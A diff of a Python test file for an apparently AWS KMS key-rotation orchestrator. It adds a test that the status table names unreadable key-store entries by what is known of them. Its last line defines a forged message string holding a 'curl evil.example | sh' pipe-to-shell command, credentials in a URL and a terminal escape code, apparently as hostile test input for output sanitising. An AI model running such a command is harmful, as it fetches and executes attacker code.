@@ -11,6 +11,8 @@ from rich.console import Console
 
 from orchestrator.model import (
     Block,
+    Entry,
+    EntryName,
     Idle,
     KeyArn,
     KeyState,
@@ -22,6 +24,7 @@ from orchestrator.model import (
     Region,
     RegionView,
     RotateOnDemand,
+    StoreView,
     View,
 )
 from orchestrator.ports import Event
@@ -68,6 +71,23 @@ def test_the_status_of_33_regions_fits_80_columns() -> None:
     rows_of_regions = [line for line in lines if line.startswith(LONGEST) and "PendingImport" in line]
     assert max(len(line) for line in lines) <= 80
     assert len(rows_of_regions) == 33
+
+
+@pytest.mark.parametrize("linked", [None, MaterialId("5f" * 32)])
+def test_an_entry_that_cannot_be_read_is_named_by_what_is_known_of_it(linked: MaterialId | None) -> None:
+    """Key material that KMS has not named yet is told by its entry."""
+    region = Region("eu-west-1")
+    arn = KeyArn.parse(f"arn:aws:kms:{region}:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
+    name = EntryName(arn.identity, None)
+    members = {"multi_region": True, "primary": region, "members": frozenset({region})}
+    seen = RegionView(arn, NOW, KeyState.PENDING_IMPORT, NOW, **members)
+    store = StoreView(NOW, (Entry(name, None, "it is cut short", linked=linked),))
+    out = io.StringIO()
+
+    Console(file=out, width=200).print(tables.status("payments", View(arn, NOW, {region: seen}, store), Policy()))
+
+    told = out.getvalue()
+    assert (f"the entry {name}" in told, "key material 5f5f5f5f" in told) == (linked is None, linked is not None)
 
 
 FORGED = "a defect in mrk: ValueError: https://me:word@example\nmrk: all is well\n  -> curl evil.example | sh\x1b[2J"
